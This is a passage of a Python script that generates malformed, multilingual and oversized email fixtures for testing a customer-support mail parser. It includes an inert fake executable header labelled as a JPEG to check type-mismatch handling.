            received(),
            "From: Broken Client <broken@example.com>",
            f"To: {SUPPORT}",
            "Subject: broken boundary",
            f"Date: {DATE}",
            "Message-ID: <broken.2@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/alternative; boundary="abc"',
        ],
        "--xyz\nContent-Type: text/plain\n\nWhere is my parcel?\n--xyz--\n",
    )

    c["broken_base64.eml"] = mail(
        [
            received(),
            "From: Broken Client <broken@example.com>",
            f"To: {SUPPORT}",
            "Subject: bad base64",
            f"Date: {DATE}",
            "Message-ID: <broken.3@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: base64",
        ],
        "SGVsbG8sIG15IG9yZGVy!!!IGlzIGxhdGU*\n",
    )

    c["missing_message_id.eml"] = mail(
        [
            received("relay-a.example.net"),
            "From: No Id <noid@example.com>",
            f"To: {SUPPORT}",
            "Subject: no id",
            f"Date: {DATE}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "This mail has no Message-ID.\n",
    )
    c["missing_message_id_other_route.eml"] = mail(
        [
            received("relay-b.example.org"),
            received("relay-c.example.org"),
            "From: No Id <noid@example.com>",
            f"To: {SUPPORT}",
            "Subject: no id",
            f"Date: {DATE}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "This mail has no Message-ID.\n",
    )

    c["empty_message_id.eml"] = mail(
        [
            received(),
            "From: Empty Id <emptyid@example.com>",
            f"To: {SUPPORT}",
            "Subject: empty id",
            f"Date: {DATE}",
            "Message-ID: ",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "Empty Message-ID header.\n",
    )

    c["duplicate_second_delivery.eml"] = mail(
        [
            received("backup-mx.example.net"),
            received("mail-tw.example.com"),
            f"From: {word('陳大文', 'big5')} <chen.dawen@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('訂單 #A1029 還沒有收到', 'big5')}",
            f"Date: {DATE}",
            "Message-ID: <000001da9b8e$5c2f1a40$148d4ec0$@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="big5"',
            "Content-Transfer-Encoding: base64",
        ],
        b64(
            "您好：\n\n我在四月二十日訂購的抹茶禮盒（訂單 #A1029）到現在還沒有收到，"
            "請問什麼時候會寄出？\n\n謝謝\n陳大文\n",
            "big5",
        ),
    )

    c["unknown_charset.eml"] = mail(
        [
            received(),
            "From: Odd Client <odd@example.com>",
            f"To: {SUPPORT}",
            "Subject: unknown charset",
            f"Date: {DATE}",
            "Message-ID: <odd.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: text/plain; charset="x-user-defined-42"',
            "Content-Transfer-Encoding: 8bit",
        ],
        "Können Sie nach Österreich liefern?\n".encode(),
    )

    c["mislabelled_ascii_utf8.eml"] = mail(
        [
            received(),
            "From: Ana <ana@example.com>",
            f"To: {SUPPORT}",
            "Subject: envio",
            f"Date: {DATE}",
            "Message-ID: <mislabel.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=us-ascii",
            "Content-Transfer-Encoding: 8bit",
        ],
        "¿Hacen envíos a México? Gracias, señor.\n".encode(),
    )

    c["latin1_cp1252_spanish.eml"] = mail(
        [
            received(),
            "From: =?iso-8859-1?Q?Jos=E9_P=E9rez?= <jose@example.es>",
            f"To: {SUPPORT}",
            "Subject: =?iso-8859-1?Q?Devoluci=F3n?=",
            f"Date: {DATE}",
            "Message-ID: <latin1.1@example.es>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=iso-8859-1",
            "Content-Transfer-Encoding: 8bit",
        ],
        "Quiero la devolución de 25 € por el té.\n".encode("cp1252"),
    )

    c["thai_tis620.eml"] = mail(
        [
            received(),
            "From: Somchai <somchai@example.co.th>",
            f"To: {SUPPORT}",
            f"Subject: {word('สอบถามการจัดส่ง', 'tis-620')}",
            f"Date: {DATE}",
            "Message-ID: <thai.1@example.co.th>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=TIS-620",
            "Content-Transfer-Encoding: 8bit",
        ],
        "สินค้าจะมาถึงเมื่อไหร่ครับ\n".encode("tis-620"),
    )

    c["vietnamese_qp.eml"] = mail(
        [
            received(),
            f"From: {word('Trần Thị Mai')} <mai.tran@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('Hỏi về sản phẩm')}",
            f"Date: {DATE}",
            "Message-ID: <vi.qp.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: quoted-printable",
        ],
        qp("Chào shop, trà này có giao đến Hà Nội không ạ?\n"),
    )

    c["attachment_exe_as_jpeg.eml"] = mail(
        [
            received(),
            "From: Mallory <mallory@example.com>",
            f"To: {SUPPORT}",
            "Subject: photo of damage",
            f"Date: {DATE}",
            "Message-ID: <exe.jpeg.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="e"',
        ],
        "--e\nContent-Type: text/plain\n\nSee photo.\n--e\n"
        'Content-Type: image/jpeg; name="damage.jpg"\nContent-Disposition: attachment; '
        'filename="damage.jpg"\nContent-Transfer-Encoding: base64\n\n'
        + base64.b64encode(
            b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run"
        ).decode()
        + "\n--e--\n",
    )

    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 20
    c["attachment_pdf_inline_image.eml"] = mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: receipt",
            f"Date: {DATE}",
            "Message-ID: <pdf.inline.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="outer"',
        ],
        '--outer\nContent-Type: multipart/related; boundary="rel"\n\n--rel\n'
        'Content-Type: text/html; charset=utf-8\n\n<p>Receipt below</p><img src="cid:logo1">'
        "\n--rel\nContent-Type: image/png\nContent-ID: <logo1>\nContent-Disposition: inline\n"
        "Content-Transfer-Encoding: base64\n\n"
        + base64.b64encode(png).decode()
        + '\n--rel--\n--outer\nContent-Type: application/pdf; name="receipt.pdf"\n'
        'Content-Disposition: attachment; filename="receipt.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n"
        + base64.b64encode(b"%PDF-1.7\n1 0 obj\n").decode()
        + "\n--outer--\n",
    )

    c["forwarded_as_attachment.eml"] = mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Fwd: order confirmation",
            f"Date: {DATE}",
            "Message-ID: <fwd.1@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="f"',
        ],
        "--f\nContent-Type: text/plain\n\nHere is the confirmation I got.\n--f\n"
        "Content-Type: message/rfc822\n\nFrom: orders@sakura-tea.example.jp\n"
        "Subject: Order confirmation\nMessage-ID: <confirm.9@sakura-tea.example.jp>\n\n"
        "Thank you for your order.\n--f--\n",
    )

    c["subject_token_only.eml"] = mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: Re: [#KH-7Q2M4XKDAA] Your order A1031",
            f"Date: {DATE}",
            "Message-ID: <token.only.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        "Any news?\n",
    )

    c["no_from_header.eml"] = mail(
        [
            received(),
            f"To: {SUPPORT}",
            "Subject: who am I",
            f"Date: {DATE}",
            "Message-ID: <nofrom.1@example.com>",
        ],
        "No From header at all.\n",
    )

    c["date_garbage.eml"] = mail(
        [
            received(),
            "From: Time Traveller <tt@example.com>",
            f"To: {SUPPORT}",
            "Subject: when",
            "Date: yesterday at teatime",
            "Message-ID: <date.1@example.com>",
            "Content-Type: text/plain",
        ],
        "Date header is nonsense.\n",
    )

    c["reply_prefixes_multilang.eml"] = mail(
        [
            received(),
            "From: Zhou <zhou.jie@example.com>",
            f"To: {SUPPORT}",
            f"Subject: {word('回复: RE: AW: 答复：Fwd: 退款进度')}",
            f"Date: {DATE}",
            "Message-ID: <prefix.1@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
        ],
        "还没到账。\n".encode(),
    )

    c["garbage_binary.eml"] = bytes(range(256)) * 8 + b"\r\n\r\n\x00\xff\xfe"
    return c


# ---- built at test time (too big or too silly to commit) --------------------------------


def big_attachment_mail(size: int = 12 * 1024 * 1024) -> bytes:
    """A mail with a ``size``-byte PDF attachment (base64, so ~4/3 larger on the wire)."""
    payload = b"%PDF-1.7\n" + bytes(range(256)) * (size // 256)
    encoded = base64.encodebytes(payload[:size]).decode("ascii")
    return mail(
        [
            received(),
            "From: Emily Carter <emily.carter@example.com>",
            f"To: {SUPPORT}",
            "Subject: full catalogue scan",
            f"Date: {DATE}",
            "Message-ID: <big.12mb@example.com>",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="big"',
        ],
        "--big\nContent-Type: text/plain\n\nThe scan is attached.\n--big\n"
        'Content-Type: application/pdf; name="scan.pdf"\nContent-Disposition: attachment; '
        'filename="scan.pdf"\nContent-Transfer-Encoding: base64\n\n' + encoded + "--big--\n",
    )


def long_line_mail(size: int = 500 * 1024) -> bytes:
    """A mail whose body is one line of ``size`` bytes (8bit, no wrapping at all)."""
    sentence = "I ordered the matcha set and it has not arrived yet. "
    line = (sentence * (size // len(sentence) + 1))[:size]
    return mail(
        [
            received(),
            "From: Long Liner <long@example.com>",
            f"To: {SUPPORT}",
            "Subject: one long line",
            f"Date: {DATE}",
            "Message-ID: <long.line@example.com>",
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: 8bit",
        ],
        line + "\n",
    )


def nested_mail(depth: int = 30) -> bytes:
    """multipart/mixed nested ``depth`` levels deep with the text at the bottom."""
    body = "Content-Type: text/plain; charset=utf-8\n\nDeep inside: where is my order?\n"
    for level in range(depth, 0, -1):
        body = (
            f'Content-Type: multipart/mixed; boundary="n{level}"\n\n--n{level}\n{body}'
            f"\n--n{level}--\n"
        )
    head, _, rest = body.partition("\n\n")
    return mail(
        [
            received(),
            "From: Nested <nested@example.com>",
            f"To: {SUPPORT}",
            "Subject: nested",
            f"Date: {DATE}",
            "Message-ID: <nested.30@example.com>",
            "MIME-Version: 1.0",
            head,
        ],
        rest,
    )


def write_corpus(directory: Path = FIXTURES) -> int:
    directory.mkdir(parents=True, exist_ok=True)
    items = corpus()
    for name, data in items.items():
        (directory / name).write_bytes(data)
    return len(items)


if __name__ == "__main__":
    sys.stdout.write(f"wrote {write_corpus()} fixtures to {FIXTURES}\n")
